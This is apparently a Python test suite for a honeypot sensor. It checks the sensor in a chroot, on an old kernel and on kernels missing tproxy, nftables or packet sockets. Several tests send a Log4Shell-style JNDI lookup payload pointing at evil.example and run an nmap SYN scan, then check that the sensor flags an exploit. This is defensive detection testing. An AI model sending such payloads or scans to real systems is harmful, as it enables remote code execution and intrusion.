"""The decoy in the static sensor: in an empty root, on a kernel of 2013, and on kernels that lack a part. test_decoy_sensor.py SENSOR OLD_KERNEL POOR_KERNEL"""
import os
import pathlib
import shutil
import subprocess
import sys

from decoy_case import Decoy, DecoyCase, main, until

SENSOR, OLD_KERNEL, POOR_KERNEL = (os.path.abspath(a) for a in sys.argv[1:4])
sys.argv[2:4] = []


class Sensor(DecoyCase):
    def wrapped(self, command, data, *options):
        """A decoy whose program is run by a command in front."""
        decoy = Decoy.__new__(Decoy)
        decoy.network, decoy.folder, decoy.marks = self.network, self.folder, []
        decoy.out, decoy.err = open(self.folder / "events", "wb"), open(self.folder / "said", "wb")
        decoy.process = self.network.start(self.host, *command, "decoy", "--json", "--data-dir", data, "--metrics", Decoy.METRICS, *options, stdout=decoy.out, stderr=decoy.err)
        self.decoys.append(decoy)
        return decoy.alive()

    def hears_and_answers(self, decoy):
        self.assertIn("HTTP/1.1", self.says(self.peer, "10.9.0.1", 8080, b"GET /${jndi:ldap://evil.example/a} HTTP/1.0\r\n\r\n"))
        self.nmap("-sS", "-p", "1-1000")
        until("the alert", lambda: any(a["caltrop"].get("grade") == "exploit" for a in decoy.actors()))
        decoy.quiet()
        decoy.stop()
        self.assertGreaterEqual(decoy.actors("10.9.0.2")[-1]["caltrop"]["tcp"]["count"], 1000)

    def test_in_an_empty_root(self):
        root = self.folder / "root"
        root.mkdir()
        shutil.copy(SENSOR, root / "sensor")
        decoy = self.wrapped(["chroot", root, "/sensor"], "/data")
        self.assertIn("cannot read /proc/net", decoy.said())
        self.assertIn("no interface of its own", decoy.said())
        self.hears_and_answers(decoy)
        self.assertTrue((root / "data/decoy/contacts.ndjson").exists())

    def test_on_an_old_kernel(self):
        if subprocess.run([OLD_KERNEL, "/bin/true"], stdout=subprocess.DEVNULL, check=False).returncode == 77:
            self.skipTest("no seccomp filters here")
        decoy = self.wrapped([OLD_KERNEL, SENSOR], self.folder / "data")
        self.assertIn("without Landlock", decoy.said())
        self.hears_and_answers(decoy)
        self.assertNotEqual(pathlib.Path(self.folder / "data/decoy/key").read_bytes(), bytes(32))

    def without(self, parts, *options):
        if subprocess.run([POOR_KERNEL, parts, "/bin/true"], stdout=subprocess.DEVNULL, check=False).returncode == 77:
            self.skipTest("no seccomp filters here")
        return self.wrapped([POOR_KERNEL, parts, SENSOR], self.folder / "data", *options)

    def on_plain_sockets(self, parts, *options):
        """Low ports and the list, all of it heard; what a service has is left alone, and what it had is too."""
        real = self.server(self.host, 22, "real")
        decoy = self.without(parts, *options)
        self.assertEqual(self.says(self.peer, "10.9.0.1", 22), "+real\n")
        self.assertEqual(self.network.on(self.host, "nft", "list", "ruleset"), "")
        self.assertIn("+SSH-2.0", self.says(self.peer, "10.9.0.1", 2222))
        listening = self.network.on(self.host, "ss", "-Hltn")
        self.assertIn(":2222 ", listening)
        self.assertNotIn("[::1]:2222 ", listening)
        self.hears_and_answers(decoy)
        real.kill()
        real.wait()
        decoy = self.without(parts)
        self.assertEqual(self.says(self.peer, "10.9.0.1", 22), "ConnectionRefusedError\n")
        decoy.stop()
        return decoy.said()

    def test_without_tproxy(self):
        self.assertIn("answers on plain sockets", self.on_plain_sockets("tproxy"))

    def test_without_nftables(self):
        said = self.on_plain_sockets("nftables", "--answer", "all")
        self.assertIn("this kernel has no nftables: answers on plain sockets instead", said)

    def test_without_packet_sockets(self):
        """It hears what it answers, and says that this is all."""
        decoy = self.without("packet")
        self.assertIn("tproxy", self.network.on(self.host, "nft", "list", "ruleset"))
        self.assertIn("no packet sockets, so it hears connections to", decoy.said())
        self.assertNotIn("without privileges", decoy.said())
        self.assertIn("HTTP/1.1", self.says(self.peer, "10.9.0.1", 8080, b"GET /${jndi:ldap://evil.example/a} HTTP/1.0\r\n\r\n"))
        until("the alert", lambda: any(a["caltrop"].get("grade") == "exploit" for a in decoy.actors()))
        decoy.stop()

    def test_without_any_of_it(self):
        said = self.without("tproxy,nftables,packet,tun")
        self.assertIn("+SSH-2.0", self.says(self.peer, "10.9.0.1", 22))
        said.stop()
        self.assertIn("no packet sockets, so it hears connections to", said.said())


if __name__ == "__main__":
    main()
